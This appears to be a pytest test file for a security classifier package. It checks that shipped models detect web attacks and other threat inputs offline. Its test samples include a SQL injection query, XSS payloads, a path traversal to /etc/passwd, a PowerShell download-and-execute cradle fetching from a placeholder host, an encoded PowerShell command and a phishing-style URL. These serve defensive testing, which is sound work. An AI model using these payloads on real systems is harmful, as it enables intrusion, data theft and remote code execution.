"""Golden tests of the shipped default model: it loads offline from the package and gets the
obvious cases right. (Accuracy is measured by benchmarks/web_attack.py, not here.)"""

import pytest

from secllm.detect.detector import WebAttackDetector
from secllm.model.modeling import read_meta
from secllm.paths import DEFAULT_MODEL_DIR


@pytest.fixture(scope="module")
def det():
    return WebAttackDetector.load()


def test_shipped_model_is_a_small_safetensors_classifier():
    meta = read_meta(DEFAULT_MODEL_DIR)
    assert meta["kind"] == "classifier" and meta["task"] == "web-attack"
    assert meta["init"].startswith("pretrained")
    size = sum(p.stat().st_size for p in DEFAULT_MODEL_DIR.iterdir())
    assert size < 40 * 2**20
    assert not [p for p in DEFAULT_MODEL_DIR.iterdir() if p.suffix in (".bin", ".pt", ".pkl", ".pickle")]


@pytest.mark.parametrize("text,attack", [
    ("1' UNION SELECT username, password FROM users--", "sqli"),
    ("<script>alert(document.cookie)</script>", "xss"),
    ("/download.php?file=..%2F..%2F..%2Fetc%2Fpasswd", "path-traversal"),
    ("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "xss"),
])
def test_obvious_attacks_are_flagged(det, text, attack):
    (r,) = det.detect([text])
    assert r.label == "malicious", r
    assert r.attack_type == attack, r
    assert r.evidence and all(text[e.start:e.end] == e.text for e in r.evidence)


@pytest.mark.parametrize("text", [
    "q=wireless+headphones&page=2",
    "/blog/2023/05/hello-world",
    "john.smith",
])
def test_plain_inputs_are_benign(det, text):
    (r,) = det.detect([text])
    assert r.label == "benign", r


def test_demo_command_runs():
    from click.testing import CliRunner

    from secllm.cli import main

    r = CliRunner().invoke(main, ["demo", "--json"])
    assert r.exit_code == 0, r.output
    assert r.stdout.count('"status": "ok"') == 6


def test_shipped_int8_graph_agrees_with_the_weights(det):
    """The shipped int8 ONNX graph (what a torch-free server runs) gives the same verdicts."""
    from secllm.runtime import resolve_backend

    assert resolve_backend(DEFAULT_MODEL_DIR, "auto") == "onnx-int8"
    onnx = WebAttackDetector.load(backend="onnx-int8")
    items = ["1' UNION SELECT username, password FROM users--", "<script>alert(document.cookie)</script>",
             "/download.php?file=..%2F..%2F..%2Fetc%2Fpasswd", "q=wireless+headphones&page=2", "john.smith",
             "GET /a?id=1%20or%201=1 HTTP/1.1\r\nHost: h\r\n\r\n"]
    a, b = det.detect(items, evidence=False), onnx.detect(items, evidence=False)
    assert [r.label for r in a] == [r.label for r in b]
    assert [r.attack_type for r in a] == [r.attack_type for r in b]
    assert max(abs(x.score - y.score) for x, y in zip(a, b)) < 0.05


_TASK_SAMPLES = {
    "url": ["http://paypal.com.secure-login.verify-account.tk/signin", "https://www.wikipedia.org/wiki/Main_Page"],
    "script": ["IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')", "Get-ChildItem C:\\\\Temp"],
    "traffic": ["16 03 01 02 00 01 00 01 fc 03 03 5a 1b", "47 45 54 20 2f 20 48 54 54 50 2f 31 2e 31"],
    "log-hdfs": ["5 22 11 9 11 9 26 26 26", "5 5 22 7 13"],
    "log-bgl": ["RAS KERNEL INFO generating core.2275", "RAS KERNEL FATAL data TLB error interrupt"],
    "cti-attack": ["The actor used spearphishing attachments to deliver a macro-enabled document."],
    "evtx-tactic": ['<Event><System><EventID>4688</EventID></System><EventData><Data Name="CommandLine">'
                    'powershell -enc SQBFAFgA</Data></EventData></Event>'],
}


def test_every_task_ships_offline_on_one_base():
    """The package carries an adapter for every registered task, on one shared base, and each one
    judges its own kind of input offline (accuracy: benchmarks/tasks.py)."""
    from secllm.detect.generic import TaskDetector
    from secllm.paths import DEFAULT_TASKS_DIR
    from secllm.tasks.multitask import MultiTaskModel
    from secllm.tasks.registry import list_tasks

    tasks = sorted(t for t in list_tasks() if t != "web-attack")
    assert sorted(p.name for p in (DEFAULT_TASKS_DIR / "adapters").iterdir()) == tasks
    assert set(_TASK_SAMPLES) == set(tasks)
    size = sum(p.stat().st_size for d in (DEFAULT_MODEL_DIR, DEFAULT_TASKS_DIR) for p in d.rglob("*") if p.is_file())
    assert size < 64 * 2**20
    shared = MultiTaskModel(DEFAULT_TASKS_DIR)
    for t in tasks:
        det = TaskDetector.load(DEFAULT_TASKS_DIR, task=t, shared=shared)
        res = det.detect(_TASK_SAMPLES[t])
        assert all(r.status == "ok" and r.label is not None for r in res), (t, res)
    assert shared.base_loads == 1


def test_shipped_lexical_heads_were_chosen_on_validation():
    """Where the package serves a lexical task head, its recorded validation macro-F1 beats the
    adapter's; where it does not, the adapter serves (selection rule of secllm.tasks.head_fit)."""
    import json

    from secllm.detect.generic import TaskDetector
    from secllm.paths import DEFAULT_TASKS_DIR
    from secllm.tasks.heads import HEADS_DIR, served_head

    heads = sorted(p.name for p in (DEFAULT_TASKS_DIR / HEADS_DIR).iterdir())
    assert {"cti-attack", "evtx-tactic", "log-bgl"} <= set(heads)
    for t in heads:
        meta = json.loads((DEFAULT_TASKS_DIR / HEADS_DIR / t / "secllm.json").read_text())
        assert meta["task"] == t and meta["rows"]["val"] > 0
        head_wins = meta["val_macro_f1"] > meta["adapter_val_macro_f1"] and meta["val_difference_bootstrap"]["low"] > 0
        ens = meta["ensemble"]
        single = meta["val_macro_f1"] if head_wins else meta["adapter_val_macro_f1"]
        ens_wins = ens is not None and ens["val_macro_f1"] > single and ens["vs_single_bootstrap"]["low"] > 0
        before = "ensemble" if ens_wins else "head" if head_wins else False
        text = meta.get("text")
        if text:            # a text head (secllm.tasks.heads) replaces it only when validation says so
            assert (text["served_before"]["serve"] or False) == before, t
            text_wins = text["val_macro_f1"] > text["served_before"]["val_macro_f1"] \
                and text["vs_served_bootstrap"]["low"] > 0
            assert meta["serve"] == ("text" if text_wins else before), t
            assert (DEFAULT_TASKS_DIR / HEADS_DIR / t / "text.safetensors").exists()
        else:
            assert meta["serve"] == before, t
        assert (served_head(DEFAULT_TASKS_DIR, t) is not None) == bool(meta["serve"])
        det = TaskDetector.load(DEFAULT_TASKS_DIR, task=t)
        assert det.backend.name == {"head": "lexical", "ensemble": "ensemble", "text": "text"}.get(meta["serve"], "torch"), t
        if meta["serve"] == "text":
            assert det.backend.halves == ["char", "sentence"], t     # the encoder is installed with the package
        res = det.detect(_TASK_SAMPLES[t])
        assert all(r.status == "ok" and r.label in det.labels + ["benign", "malicious", "unknown"] for r in res), (t, res)
